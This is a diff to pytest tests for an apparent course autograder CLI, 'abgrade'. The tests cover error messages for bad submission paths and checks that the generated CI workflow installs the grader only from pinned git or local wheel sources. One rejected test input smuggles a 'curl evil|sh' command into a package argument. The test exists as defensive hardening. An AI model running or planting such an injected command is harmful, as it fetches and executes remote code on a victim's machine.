@@ -199,11 +199,17 @@ def test_check_reports_config_mistakes_with_their_line(tmp_path: Path) -> None:
     assert "Traceback" not in done.stderr
 
 
-def test_check_of_a_missing_submission_fails_load(tmp_path: Path) -> None:
-    done = abgrade("check", "tree=labs/nothing.py", "--junit", "r.xml", cwd=tmp_path)
-    assert done.returncode == 1
-    failure = junit_cases(tmp_path / "r.xml")["load"].find("failure")
-    assert failure is not None and failure.get("message") == "nothing.py: no such file"
+@pytest.mark.parametrize("path, reason", [
+    ("labs/nothing.py", "no such file; give the path of your .py or .ipynb"),
+    ("labs", "is a folder; give the path of your .py or .ipynb file in it"),
+    ("labs/tree.txt", "not a .py or .ipynb file; give the path of your .py or .ipynb"),
+], ids=["missing", "folder", "txt"])
+def test_check_of_a_path_that_is_not_a_submission_is_a_usage_error(tmp_path: Path, path: str, reason: str) -> None:
+    (tmp_path / "labs").mkdir()
+    (tmp_path / "labs" / "tree.txt").write_text("")
+    done = abgrade("check", f"tree={path}", "--junit", "r.xml", cwd=tmp_path)
+    assert (done.returncode, done.stdout, done.stderr) == (2, "", f"abgrade: {path}: {reason}\n")
+    assert not (tmp_path / "r.xml").exists()
 
 
 def test_student_output_goes_to_system_out_in_valid_xml(tmp_path: Path) -> None:
@@ -262,3 +268,49 @@ def test_workflow_check_step_runs_as_written(tmp_path: Path, submission: Path, c
     assert done.returncode == code, done.stdout + done.stderr
     suites = ET.parse(repo / "results.xml").getroot()
     assert suites.get("failures") == str(failures) and suites.get("tests") == "45"
+
+
+# --- where the workflow gets abgrade from --------------------------------------------------------
+
+def workflow_env(path: Path) -> dict:
+    return yaml.safe_load(path.read_text())["env"]
+
+
+@pytest.mark.parametrize("package", ["abgrade @ git+https://github.com/course/abgrade@v1.2.0",
+                                     "git+https://gitlab.example.edu/ai/abgrade.git@3f2c1d0",
+                                     "./ci/abgrade-1.2.0-py3-none-any.whl"])
+def test_init_ci_writes_the_package_source_given(tmp_path: Path, package: str) -> None:
+    done = abgrade("check", "--init-ci", "--package", package, cwd=tmp_path)
+    assert done.returncode == 0, done.stderr
+    assert workflow_env(tmp_path / ".github" / "workflows" / "abgrade-check.yml") == {"ABGRADE_PACKAGE": package}
+
+
+@pytest.mark.parametrize("package, problem", [
+    ("abgrade", "a name on the package index, which is not a source your course controls"),
+    ("abgrade==1.2.0", "a name on the package index, which is not a source your course controls"),
+    ("abgrade @ git+https://github.com/course/abgrade", "a git URL without a tag or commit"),
+    ('x"; curl evil|sh; "', "not a pip requirement"),
+], ids=["bare-name", "pinned-name", "unpinned-git", "quotes"])
+def test_init_ci_refuses_sources_the_course_does_not_control(tmp_path: Path, package: str, problem: str) -> None:
+    done = abgrade("check", "--init-ci", "--package", package, cwd=tmp_path)
+    assert done.returncode == 2 and done.stderr.startswith(f"abgrade: --package {package}: {problem}")
+    assert "git URL pinned to a tag or commit" in done.stderr and len(done.stderr.splitlines()) == 1
+    assert not (tmp_path / ".github").exists()
+
+
+def test_the_workflow_as_generated_never_installs_from_the_package_index(tmp_path: Path) -> None:
+    """Without --package, the install step stops with a message saying what to set."""
+    env = workflow_env(Path(__file__).parent.parent / "grader" / "course" / "templates" / "abgrade-check.yml")
+    assert env["ABGRADE_PACKAGE"].startswith("SET-ME")
+    install = next(step["run"] for step in workflow_steps() if "pip install" in step.get("run", ""))
+    fake_python = tmp_path / "python"
+    fake_python.write_text("#!/bin/sh\necho pip was called\n")
+    fake_python.chmod(0o755)
+    done = subprocess.run(["bash", "-e", "-c", install], capture_output=True, text=True, timeout=30,
+                          env={**os.environ, **env, "PATH": f"{tmp_path}{os.pathsep}{os.environ['PATH']}"})
+    assert done.returncode == 1 and "pip was called" not in done.stdout
+    assert done.stdout.startswith("::error::ABGRADE_PACKAGE is not set: write where pip gets abgrade")
+    ok = subprocess.run(["bash", "-e", "-c", install], capture_output=True, text=True, timeout=30,
+                        env={**os.environ, "ABGRADE_PACKAGE": "./ci/abgrade.whl",
+                             "PATH": f"{tmp_path}{os.pathsep}{os.environ['PATH']}"})
+    assert (ok.returncode, ok.stdout) == (0, "pip was called\n")
